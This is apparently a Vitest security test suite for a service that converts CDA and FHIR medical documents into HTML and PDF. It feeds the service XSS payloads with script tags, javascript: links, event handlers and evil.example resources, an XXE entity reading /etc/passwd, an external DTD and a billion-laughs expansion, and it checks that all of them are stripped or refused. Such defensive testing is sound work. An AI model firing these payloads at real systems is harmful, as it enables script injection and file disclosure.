// @vitest-environment node
import { JSDOM } from 'jsdom';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cdaXml, dot, section, structured } from './testing/cda.ts';
import { startConversion, type ConversionServer } from './testing/server.ts';

let server: ConversionServer;
beforeAll(async () => {
  server = await startConversion();
});
afterAll(() => server.close());

const service = '/epr/v1/Conversion?locale=de-ch';
const type = { 'content-type': 'text/xml' };
const evil = `
  <script>alert(1)</script><script src="https://evil.example/x.js"/>
  <style>body { background: url(https://evil.example/css) }</style>
  <link rel="stylesheet" href="https://evil.example/a.css"/><base href="https://evil.example/"/>
  <meta http-equiv="refresh" content="0;url=https://evil.example/"/>
  <p onclick="alert(2)" style="background:url(https://evil.example/s)" onmouseover="alert(3)">Text <b onload="alert(4)">fett</b></p>
  <img src="https://evil.example/pixel.png" onerror="alert(5)"/><img src="data:image/svg+xml;base64,PHN2Zy8+"/>
  <img src="data:image/png;base64,${dot}" alt="&quot; onerror=&quot;alert(6)"/>
  <a href="javascript:alert(7)">Klick</a> <a href=" JavaScript:alert(8)">Klack</a> <a href="https://evil.example/?a&quot;&lt;b">weg</a>
  <iframe src="https://evil.example/"/><object data="https://evil.example/"/><embed src="https://evil.example/"/>
  <form action="https://evil.example/"><input name="password" value="eingabe"/></form>
  <svg xmlns="http://www.w3.org/2000/svg"><script>alert(9)</script><image href="https://evil.example/i"/></svg>
  <video src="https://evil.example/v" poster="https://evil.example/p"/>
  <b>auch<script>alert(12)</script></b>
  <unknown onfocus="alert(10)">bleibt</unknown> &lt;script&gt;alert(11)&lt;/script&gt;`;

const fhir = (
  text: string,
): string => `<Bundle xmlns="http://hl7.org/fhir"><type value="document"/><entry><resource><Composition>
  <language value="sv&quot;&gt;&lt;x"/><status value="final"/><type><text value="&lt;img src=x onerror=alert(0)&gt;"/></type><date value="2026"/><author><display value="&quot;&gt;&lt;script&gt;"/></author>
  <title value="&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;"/>
  <section><title value="&lt;b&gt;"/><text><status value="additional"/><div xmlns="http://www.w3.org/1999/xhtml">${text}</div></text></section>
  </Composition></resource></entry></Bundle>`;

describe('CDA of older systems', () => {
  const text = cdaXml(structured(section('Übertritt'))).replace('encoding="UTF-8"', 'encoding="UTF-16"');
  it.each([
    ['UTF-16 with its mark', Buffer.from(`\ufeff${text}`, 'utf16le')],
    ['UTF-16 without', Buffer.from(text, 'utf16le')],
    ['UTF-16, the other order', Buffer.from(text, 'utf16le').swap16()],
  ])('[COM-06] in %s is read', async (_words, bytes) => {
    const answer = await server.post(service, bytes, { ...type, accept: 'text/html' });
    expect(answer.status).toBe(200);
    expect(answer.text).toContain('Übertritt');
  });

  it('[COM-06] declared as UTF-16 but encoded otherwise is refused', async () => {
    const answer = await server.post(service, text, { ...type, accept: 'text/html' });
    expect(answer.status).toBe(400);
  });
});

describe.each([
  [
    'CDA',
    (text: string) =>
      cdaXml(structured(section(text, { title: '&lt;script&gt;alert(0)&lt;/script&gt;' })), {
        language: 'sv&quot;&gt;&lt;x',
      }),
  ],
  ['FHIR', fhir],
])('a hostile %s', (name, write) => {
  it('[COM-06] results in a page without active content or external resources', async () => {
    const answer = await server.post(service, write(evil), { ...type, accept: 'text/html' });
    expect(answer.status).toBe(200);
    const { document } = new JSDOM(answer.text).window;
    const elements = [...document.querySelectorAll('*')];
    const dangerous =
      'script, link, base, iframe, object, embed, form, input, svg, video, audio, a, meta[http-equiv], [style], [srcset]';
    expect([...document.querySelectorAll(dangerous)].map(({ outerHTML }) => outerHTML)).toEqual([]);
    expect(document.querySelectorAll('style').length).toBe(1);
    expect(elements.filter(({ localName }) => !/^[a-z][a-z0-9]*$/.test(localName))).toEqual([]);
    // Images of CDA are outside its narrative.
    const alts = name === 'FHIR' ? ['" onerror="alert(6)'] : [];
    expect([...document.images].map(({ alt }) => alt)).toEqual(alts);
    const attributes = elements.flatMap((one) => [...one.attributes].map(({ name, value }) => [name, value] as const));
    expect(attributes.filter(([name]) => name.startsWith('on') || name === 'href')).toEqual([]);
    const sources = attributes.filter(([name]) => ['src', 'data', 'action', 'poster'].includes(name));
    expect(sources.every(([, value]) => value.startsWith('data:image/png;base64,'))).toBe(true);
    expect(document.querySelector('style')?.textContent).not.toContain('evil');
    const words = document.body.textContent;
    for (const kept of ['Text fett', 'Klick', 'bleibt', '<script>alert(11)</script>']) expect(words).toContain(kept);
    for (const gone of ['alert(1)', 'alert(9)', 'alert(12)', 'background', 'eingabe'])
      expect(words.replace('alert(11)', '').replace('alert(1)</script>', '')).not.toContain(gone);
    expect(answer.headers).toMatchObject({
      'content-security-policy': expect.stringMatching(/default-src 'none'.*sandbox/),
      'cache-control': 'no-store',
      'x-content-type-options': 'nosniff',
      'content-language': 'de-CH',
      vary: 'accept',
    });
  });

  it('[COM-06] results in a PDF without actions, scripts or URLs', async () => {
    const answer = await server.post(service, write(evil), { ...type, accept: 'application/pdf' });
    expect(answer.status).toBe(200);
    const text = answer.bytes.toString('latin1');
    expect(text).not.toMatch(/\/(?:JavaScript|JS|URI|Launch|OpenAction|EmbeddedFile|AA)\b/);
    // Whatever language the document declares.
    expect(new Set(text.match(/\/Lang \([^)]*\)/g))).toEqual(new Set(['/Lang (de-CH)']));
  });
});

describe('hostile XML', () => {
  const laughs = `<!DOCTYPE x [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${'bcdefghij'[i]} "${`&${'abcdefghi'[i]};`.repeat(10)}">`).join('')}]><ClinicalDocument xmlns="urn:hl7-org:v3">&j;</ClinicalDocument>`;
  const deep = (levels: number): string =>
    cdaXml(structured(section('<content>'.repeat(levels) + 'tief' + '</content>'.repeat(levels))));

  it.each([
    [
      'an external entity',
      '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><ClinicalDocument xmlns="urn:hl7-org:v3"><title>&e;</title></ClinicalDocument>',
      /document type/,
    ],
    [
      'an external subset',
      '<!DOCTYPE x SYSTEM "https://evil.example/x.dtd"><ClinicalDocument xmlns="urn:hl7-org:v3"/>',
      /document type/,
    ],
    ['a billion laughs', laughs, /document type/],
    ['an undeclared entity', cdaXml(structured(section('&nbsp;'))), /Invalid XML/],
    ['a thousand levels', deep(1000), /nested deeper/],
    ['half a document', cdaXml('').slice(0, 400), /Invalid XML/],
    ['a name without end', `<${'a'.repeat(5000)}:b/>`, /^Invalid XML.{1,490}$/s],
    ['text that is not XML', 'hello', /Invalid XML/],
    ['bytes that are no letters', Buffer.from([0x3c, 0x61, 0x3e, 0xff, 0xfe, 0x3c, 0x2f, 0x61, 0x3e]), /Invalid XML/],
  ])('[COM-06] refuses %s with a clear reason', async (_name, xml, words) => {
    const before = performance.now();
    const answer = await server.post(service, xml, { ...type, accept: 'text/html' });
    expect([answer.status, answer.type]).toEqual([400, 'application/problem+json; charset=utf-8']);
    expect((JSON.parse(answer.text) as { detail: string }).detail).toMatch(words);
    expect(performance.now() - before).toBeLessThan(20_000);
  });

  it('[COM-06] accepts the permitted depth in both formats', async () => {
    for (const accept of ['text/html', 'application/pdf'])
      expect((await server.post(service, deep(150), { ...type, accept })).status).toBe(200);
  });

  it('[COM-03] [COM-06] refuses 20 MB and more before parsing', async () => {
    const large = Buffer.alloc(21 * 1024 * 1024, 0x20);
    const answer = await server.post(service, large, { ...type, accept: 'text/html' });
    expect([answer.status, answer.type]).toEqual([413, 'application/problem+json; charset=utf-8']);
    const other = await server.post('/r4/$convert', large, { 'content-type': 'application/fhir+xml' });
    expect([other.status, JSON.parse(other.text)]).toMatchObject([413, { issue: [{ code: 'too-costly' }] }]);
  });

  it('[COM-06] follows a chain of results of any length, also in a circle', async () => {
    const length = 8000;
    const links = Array.from(
      { length },
      (_, at) =>
        `<entry><resource><Observation><id value="${at}"/><status value="final"/><code><text value="Wert"/></code><hasMember><reference value="Observation/${(at + 1) % length}"/></hasMember></Observation></resource></entry>`,
    );
    const xml = fhir('').replace(
      '</section>',
      '<entry><reference value="Observation/0"/></entry><entry><reference value="Observation/7"/></entry></section>',
    );
    const chain = xml.replace('</Bundle>', `${links.join('')}</Bundle>`);
    const answer = await server.post(service, chain, { ...type, accept: 'text/html' });
    expect([answer.status, answer.text.split('<th role="rowheader"').length - 1]).toEqual([200, length]);
  });

  it('[COM-06] writes a wide and long table, and can convert the next document', async () => {
    const row = `<tr>${'<td>x</td>'.repeat(300)}</tr>`;
    const long = `<table><tbody>${row}<tr><td colspan="9999" rowspan="-3">${'wort '.repeat(30_000)}</td></tr></tbody></table>`;
    for (const accept of ['text/html', 'application/pdf'])
      expect((await server.post(service, cdaXml(structured(section(long))), { ...type, accept })).status).toBe(200);
    expect((await server.post(service, cdaXml(''), { ...type, accept: 'text/html' })).status).toBe(200);
  });
});
